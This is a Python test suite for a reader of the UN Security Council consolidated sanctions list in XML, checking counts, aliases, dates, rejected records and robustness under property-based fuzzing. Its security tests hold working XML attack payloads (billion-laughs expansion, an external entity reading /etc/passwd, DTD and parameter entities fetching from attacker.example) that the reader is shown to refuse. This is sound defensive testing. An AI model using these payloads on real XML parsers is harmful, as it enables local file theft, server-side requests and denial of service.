"""UN consolidated list reader: the real list, hand-built documents, unsafe XML, properties."""

from __future__ import annotations

import datetime as dt
import re
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from backchannel.errors import InvalidInputError
from backchannel.screening.entity import EntityType, ListedEntity, NameQuality, ReadResult
from backchannel.screening.read_un import UN_LIST_ID, read_un
from tests.conftest import mirror_path

UN_FILE = Path("sanctions") / "un_consolidated.xml"
PROPERTY_SETTINGS = settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@pytest.fixture(scope="module")
def un_path() -> Path:
    root = mirror_path()
    if root is None or not (root / UN_FILE).is_file():
        pytest.skip("no UN list in the data mirror: set BACKCHANNEL_MIRROR")
    return root / UN_FILE


@pytest.fixture(scope="module")
def un(un_path: Path) -> ReadResult:
    return read_un(un_path)


def by_reference(result: ReadResult, reference: str) -> ListedEntity:
    [entity] = [e for e in result.entities if e.reference == reference]
    return entity


# --------------------------------------------------------------------------- the real list


def test_every_record_of_the_real_list_is_read(un: ReadResult, un_path: Path) -> None:
    text = un_path.read_text(encoding="utf-8")
    individuals, entities = text.count("<INDIVIDUAL>"), text.count("<ENTITY>")
    assert (individuals, entities) == (730, 273)
    assert un.records_seen == individuals + entities == 1003
    assert (len(un.entities), un.rejected, un.warnings) == (1003, (), ())
    assert un.reconciles()
    assert un.list_id == UN_LIST_ID
    assert un.snapshot == "2026-02-27T00:00:09.554Z"
    types = [e.type for e in un.entities]
    assert (types.count(EntityType.PERSON), types.count(EntityType.ORGANISATION)) == (730, 273)
    assert len({e.entity_id for e in un.entities}) == 1003


def test_alias_counts_match_a_naive_count(un: ReadResult, un_path: Path) -> None:
    text = un_path.read_text(encoding="utf-8")
    qualities = re.findall(r"<QUALITY>([^<]*)</QUALITY>", text)
    assert sorted(set(qualities)) == ["Good", "Low", "a.k.a.", "f.k.a."]
    strong = sum(q in ("Good", "a.k.a.", "f.k.a.") for q in qualities)
    assert un.details["aliases"] == strong == 2137
    assert un.details["weak_aliases"] == qualities.count("Low") == 615
    assert un.details["empty_aliases"] == text.count("<ALIAS_NAME/>") == 291
    assert un.details["original_script_names"] == len(
        re.findall(r"<NAME_ORIGINAL_SCRIPT>\s*\S", text)
    )
    # a name given twice in one record (the UN repeats an alias once per date of birth, and
    # one original-script name is the Latin name again) is kept once
    kept = sum(len(e.names) for e in un.entities)
    assert kept == 1003 + un.details["original_script_names"] + 2137 + 615 - 12
    assert un.details["repeated_names"] == 12


def test_al_shabaab(un: ReadResult) -> None:
    entity = by_reference(un, "SOe.001")
    assert entity.primary_name == "AL-SHABAAB"
    assert entity.type is EntityType.ORGANISATION
    assert entity.listed_on == dt.date(2010, 4, 12)
    assert entity.programmes == ("Somalia",)
    aliases = {n.text: n for n in entity.names[1:]}
    for alias in ("AL-SHABAB", "SHABAAB", "HARAKAT SHABAB AL-MUJAHIDIN", "MYM", "HIZBUL SHABAAB"):
        assert aliases[alias].quality is NameQuality.STRONG
        assert aliases[alias].kind == "aka"


def test_original_script_low_quality_and_amendments(un: ReadResult) -> None:
    saif = by_reference(un, "QDi.001")
    names = {n.text: n for n in saif.names}
    arabic = names["محمد صلاح الدين عبدالحليم زيدان"]
    assert (arabic.quality, arabic.script, arabic.kind) == (
        NameQuality.PRIMARY,
        "Arabic",
        "original_script",
    )
    assert names["Seif al Adel"].quality is NameQuality.WEAK
    assert names["Sayf-Al Adl"].quality is NameQuality.STRONG
    assert saif.primary_name == "MOHAMMED SALAHALDIN ABD EL HALIM ZIDANE"
    assert saif.amended_on[-1] == dt.date(2022, 11, 8)
    ktj = by_reference(un, "QDe.168")
    assert [n.script for n in ktj.names if n.kind == "original_script"] == ["Cyrillic"]
    badege = by_reference(un, "CDi.007")
    assert badege.amended_on == (dt.date(2016, 10, 13), dt.date(2020, 11, 2))


def test_dates_with_a_time_zone_are_read(un: ReadResult) -> None:
    # the file writes ten listing dates as xsd:date with a zone, "2015-04-07-04:00"
    assert by_reference(un, "QDi.352").listed_on == dt.date(2015, 4, 7)
    assert all(e.listed_on is not None for e in un.entities)


def test_each_entity_points_at_its_record(un: ReadResult, un_path: Path) -> None:
    lines = un_path.read_text(encoding="utf-8").split("\n")
    for entity in un.entities:
        assert entity.line is not None
        assert lines[entity.line - 1].strip() in ("<INDIVIDUAL>", "<ENTITY>")
        assert lines[entity.line].strip() == f"<DATAID>{entity.entity_id}</DATAID>"


# --------------------------------------------------------------------------- hand-built documents


@dataclass
class Record:
    """A UN record to write: its element name and children (text, or a list of alias pairs)."""

    kind: str = "INDIVIDUAL"
    data_id: str | None = "900001"
    names: tuple[str, ...] = ("JOHN", "DOE")
    original: str | None = None
    aliases: tuple[tuple[str, str], ...] = ()
    listed_on: str = "2010-04-12"
    updated: tuple[str, ...] = ()
    programme: str = "Somalia"
    reference: str = "SOi.900"
    comments: str = "A note."


def un_document(records: list[Record], generated: str = "2026-01-01T00:00:00Z") -> bytes:
    root = ET.Element("CONSOLIDATED_LIST", dateGenerated=generated)
    groups = {"INDIVIDUAL": ET.SubElement(root, "INDIVIDUALS"),
              "ENTITY": ET.SubElement(root, "ENTITIES")}  # fmt: skip
    for record in records:
        element = ET.SubElement(groups[record.kind], record.kind)
        if record.data_id is not None:
            ET.SubElement(element, "DATAID").text = record.data_id
        for tag, text in zip(("FIRST_NAME", "SECOND_NAME", "THIRD_NAME", "FOURTH_NAME"),
                             record.names, strict=False):  # fmt: skip
            ET.SubElement(element, tag).text = text
        ET.SubElement(element, "UN_LIST_TYPE").text = record.programme
        ET.SubElement(element, "REFERENCE_NUMBER").text = record.reference
        ET.SubElement(element, "LISTED_ON").text = record.listed_on
        if record.original is not None:
            ET.SubElement(element, "NAME_ORIGINAL_SCRIPT").text = record.original
        ET.SubElement(element, "COMMENTS1").text = record.comments
        updated = ET.SubElement(element, "LAST_DAY_UPDATED")
        for value in record.updated:
            ET.SubElement(updated, "VALUE").text = value
        for quality, alias in record.aliases or (("", ""),):
            alias_element = ET.SubElement(element, f"{record.kind}_ALIAS")
            ET.SubElement(alias_element, "QUALITY").text = quality or None
            ET.SubElement(alias_element, "ALIAS_NAME").text = alias or None
    ET.indent(root)
    body: bytes = ET.tostring(root, encoding="utf-8")
    return b'<?xml version="1.0" encoding="UTF-8"?>\n' + body


def write(tmp_path: Path, content: bytes | str, name: str = "un.xml") -> Path:
    path = tmp_path / name
    path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return path


def test_one_record_is_mapped(tmp_path: Path) -> None:
    record = Record(
        names=("Ahmed", "Abdi", "Godane", ""),
        original="أحمد عبدي غودني",
        aliases=(("Good", "Mukhtar Abu Zubeyr"), ("Low", "Abu Zubeyr")),
        updated=("2012-01-01", "2011-05-05", "2012-01-01"),
    )
    result = read_un(write(tmp_path, un_document([record])))
    [entity] = result.entities
    assert (entity.list_id, entity.entity_id, entity.reference) == ("un-sc", "900001", "SOi.900")
    assert [(n.text, n.quality.value, n.script, n.kind) for n in entity.names] == [
        ("Ahmed Abdi Godane", "primary", None, "name"),
        ("أحمد عبدي غودني", "primary", "Arabic", "original_script"),
        ("Mukhtar Abu Zubeyr", "strong", None, "aka"),
        ("Abu Zubeyr", "weak", None, "aka"),
    ]
    assert entity.amended_on == (dt.date(2011, 5, 5), dt.date(2012, 1, 1))
    assert (entity.remarks, entity.programmes, entity.type) == (
        "A note.",
        ("Somalia",),
        EntityType.PERSON,
    )
    assert result.snapshot == "2026-01-01T00:00:00Z"
    assert entity.line == 4  # <?xml?>, <CONSOLIDATED_LIST>, <INDIVIDUALS>, <INDIVIDUAL>


@pytest.mark.parametrize(
    ("quality", "expected", "kind"),
    [
        ("Good", NameQuality.STRONG, "aka"),
        ("a.k.a.", NameQuality.STRONG, "aka"),
        ("f.k.a.", NameQuality.STRONG, "fka"),
        ("Low", NameQuality.WEAK, "aka"),
        ("Low quality", NameQuality.WEAK, "aka"),
        ("", NameQuality.STRONG, "aka"),
        ("Medium", NameQuality.STRONG, "aka"),
    ],
)
def test_alias_qualities(tmp_path: Path, quality: str, expected: NameQuality, kind: str) -> None:
    document = un_document([Record(kind="ENTITY", names=("FRONT",), aliases=((quality, "ALIAS"),))])
    result = read_un(write(tmp_path, document))
    alias = result.entities[0].names[1]
    assert (alias.text, alias.quality, alias.kind) == ("ALIAS", expected, kind)
    unknown = quality.lower() not in ("good", "a.k.a.", "f.k.a.", "low", "low quality")
    assert result.details.get("aliases_of_unknown_quality", 0) == int(unknown)


def test_records_without_id_or_name_are_rejected_with_their_line(tmp_path: Path) -> None:
    records = [
        Record(data_id="1"),
        Record(data_id=None),
        Record(data_id="3", names=()),
        Record(data_id="1", names=("TWICE",)),
        Record(kind="ENTITY", data_id="5", names=(), aliases=(("a.k.a.", "ONLY AN ALIAS"),)),
    ]
    path = write(tmp_path, un_document(records))
    result = read_un(path)
    assert result.reconciles()
    assert [e.entity_id for e in result.entities] == ["1", "5"]
    assert result.entities[1].primary_name == "ONLY AN ALIAS"
    assert result.details["no_primary_name"] == 1
    lines = path.read_text(encoding="utf-8").split("\n")
    reasons = [(r.location, r.reason) for r in result.rejected]
    assert reasons == [
        ("INDIVIDUAL[2]", "no DATAID"),
        ("INDIVIDUAL[3]", "DATAID 3: no name"),
        ("INDIVIDUAL[4]", "duplicate DATAID 1 (first on line 4)"),
    ]
    assert all(lines[r.line - 1].strip() == "<INDIVIDUAL>" for r in result.rejected if r.line)


def test_unreadable_dates_keep_the_entry_and_warn(tmp_path: Path) -> None:
    document = un_document([Record(listed_on="12/04/2010", updated=("2010-02-30", "2011-01-01"))])
    result = read_un(write(tmp_path, document))
    [entity] = result.entities
    assert (entity.listed_on, entity.amended_on) == (None, (dt.date(2011, 1, 1),))
    assert [w.reason for w in result.warnings] == [
        "LISTED_ON '12/04/2010' is not a date",
        "VALUE '2010-02-30' is not a date",
    ]
    assert result.details["unreadable_dates"] == 2


def test_names_split_over_lines_are_joined(tmp_path: Path) -> None:
    document = un_document([Record(names=("  ABU\n   BAKR ", "AL-BAGHDADI"))])
    assert read_un(write(tmp_path, document)).entities[0].primary_name == "ABU BAKR AL-BAGHDADI"


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE CONSOLIDATED_LIST [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<CONSOLIDATED_LIST><ENTITIES><ENTITY><DATAID>1</DATAID>
<FIRST_NAME>&lol9;</FIRST_NAME></ENTITY></ENTITIES></CONSOLIDATED_LIST>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<CONSOLIDATED_LIST><ENTITIES><ENTITY><DATAID>1</DATAID>
<FIRST_NAME>&secret;</FIRST_NAME></ENTITY></ENTITIES></CONSOLIDATED_LIST>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE CONSOLIDATED_LIST SYSTEM "http://attacker.example/list.dtd">
<CONSOLIDATED_LIST><ENTITIES><ENTITY><DATAID>1</DATAID>
<FIRST_NAME>X</FIRST_NAME></ENTITY></ENTITIES></CONSOLIDATED_LIST>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote;]>
<CONSOLIDATED_LIST/>
"""


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_dtds_and_entities_are_refused_naming_the_file(tmp_path: Path, document: str) -> None:
    path = write(tmp_path, document)
    with pytest.raises(InvalidInputError) as caught:
        read_un(path)
    assert caught.value.source == str(path)
    assert str(path) in str(caught.value)
    [problem] = caught.value.problems
    assert problem.message.startswith("refused: the file declares a document type")
    assert problem.line == 2


@pytest.mark.parametrize(
    ("content", "message", "line"),
    [
        ("", "not well-formed XML: no element found", 1),
        ("<CONSOLIDATED_LIST><ENTITIES><ENTITY>", "not well-formed XML: no element found", 1),
        ("<CONSOLIDATED_LIST>\n<X>&nbsp;</X></CONSOLIDATED_LIST>", "undefined entity", 2),
        ("<CONSOLIDATED_LIST>\n\n<A></B></CONSOLIDATED_LIST>", "mismatched tag", 3),
        ("<SDN_LIST><ENTITY/></SDN_LIST>", "expected a CONSOLIDATED_LIST document", 1),
        ("<CONSOLIDATED_LIST><INDIVIDUALS/></CONSOLIDATED_LIST>", "no entry could be read", None),
    ],
)
def test_broken_documents_name_file_and_line(
    tmp_path: Path, content: str, message: str, line: int | None
) -> None:
    path = write(tmp_path, content)
    with pytest.raises(InvalidInputError) as caught:
        read_un(path)
    assert str(path) in str(caught.value)
    assert message in caught.value.problems[0].message
    assert caught.value.problems[0].line == line


def test_truncated_real_list_is_refused(un_path: Path, tmp_path: Path) -> None:
    data = un_path.read_bytes()
    path = write(tmp_path, data[: len(data) // 2])
    with pytest.raises(InvalidInputError, match="not well-formed XML"):
        read_un(path)


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(InvalidInputError, match="cannot read the file"):
        read_un(tmp_path / "absent.xml")


# --------------------------------------------------------------------------- properties

# XML 1.0 cannot carry most control characters; names never hold them
name_text = (
    st.text(
        st.characters(
            codec="utf-8",
            exclude_categories=("Cc", "Cs", "Zl", "Zp", "Co", "Cn"),
            exclude_characters="\ufffe\uffff",
        ),
        min_size=1,
        max_size=20,
    )
    .map(lambda s: " ".join(s.split()))
    .filter(bool)
)
qualities = st.sampled_from(["Good", "Low", "a.k.a.", "f.k.a."])


@st.composite
def records(draw: st.DrawFn) -> Record:
    return Record(
        kind=draw(st.sampled_from(["INDIVIDUAL", "ENTITY"])),
        data_id=str(draw(st.integers(1, 10**9))),
        names=tuple(draw(st.lists(name_text, min_size=1, max_size=4))),
        original=draw(st.none() | name_text),
        aliases=tuple(draw(st.lists(st.tuples(qualities, name_text), max_size=4))),
        listed_on=draw(st.dates(dt.date(1990, 1, 1), dt.date(2030, 1, 1))).isoformat(),
        updated=tuple(d.isoformat() for d in draw(st.lists(st.dates(), max_size=3))),
        reference=draw(name_text),
        programme=draw(name_text),
    )


def unique_ids(generated: list[Record]) -> list[Record]:
    seen: set[str] = set()
    kept: list[Record] = []
    for record in generated:
        if record.data_id not in seen:
            seen.add(record.data_id or "")
            kept.append(record)
    return kept


@PROPERTY_SETTINGS
@given(generated=st.lists(records(), min_size=1, max_size=6).map(unique_ids))
def test_generated_records_read_back(tmp_path: Path, generated: list[Record]) -> None:
    result = read_un(write(tmp_path, un_document(generated)))
    assert result.reconciles() and not result.rejected and not result.warnings
    # the writer groups individuals before entities
    ordered = [r for r in generated if r.kind == "INDIVIDUAL"] + [
        r for r in generated if r.kind == "ENTITY"
    ]
    assert [e.entity_id for e in result.entities] == [r.data_id for r in ordered]
    for record, entity in zip(ordered, result.entities, strict=True):
        texts = {n.text for n in entity.names}
        assert " ".join(record.names) == entity.primary_name
        assert {a for _, a in record.aliases} <= texts
        if record.original:
            assert record.original in texts
        assert entity.listed_on == dt.date.fromisoformat(record.listed_on)
        assert entity.amended_on == tuple(
            sorted({dt.date.fromisoformat(d) for d in record.updated})
        )
        assert (entity.reference, entity.programmes) == (record.reference, (record.programme,))
        weak = {a for q, a in record.aliases if q == "Low"}
        strong = {a for q, a in record.aliases if q != "Low"} | {entity.primary_name}
        for name in entity.names:
            if name.text in weak - strong - {record.original}:
                assert name.quality is NameQuality.WEAK


MARKUP = [b"<", b"</ENTITY>", b"&", b"<!DOCTYPE x []>", b"<INDIVIDUAL>", b"\x00"]


@st.composite
def corruptions(draw: st.DrawFn, document: bytes) -> bytes:
    data = bytearray(document)
    for _ in range(draw(st.integers(1, 4))):
        how = draw(st.sampled_from(["truncate", "flip", "insert", "delete"]))
        at = draw(st.integers(0, max(len(data) - 1, 0)))
        if how == "truncate":
            del data[at:]
        elif how == "flip" and data:
            data[at] = draw(st.integers(0, 255))
        elif how == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=8) | st.sampled_from(MARKUP))
        else:
            del data[at : at + draw(st.integers(1, 20))]
    return bytes(data)


@PROPERTY_SETTINGS
@given(data=st.data(), generated=st.lists(records(), min_size=1, max_size=4).map(unique_ids))
def test_corrupted_documents_raise_invalid_input_or_read_whole(
    tmp_path: Path, data: st.DataObject, generated: list[Record]
) -> None:
    content = data.draw(corruptions(un_document(generated)))
    path = write(tmp_path, content)
    try:
        result = read_un(path)
    except InvalidInputError as error:
        assert error.source == str(path)
        return
    # nothing partially loaded: every record element an independent parser finds is
    # accounted for, read or rejected
    assert result.reconciles()
    root = ET.fromstring(content)
    expected = sum(1 for e in root.iter() if e.tag in ("INDIVIDUAL", "ENTITY"))
    assert result.records_seen == expected
    assert all(e.names for e in result.entities)


@PROPERTY_SETTINGS
@given(content=st.binary(max_size=400) | st.text(max_size=400).map(str.encode))
def test_arbitrary_bytes_raise_only_invalid_input(tmp_path: Path, content: bytes) -> None:
    path = write(tmp_path, content)
    try:
        read_un(path)
    except InvalidInputError as error:
        assert str(path) in str(error)
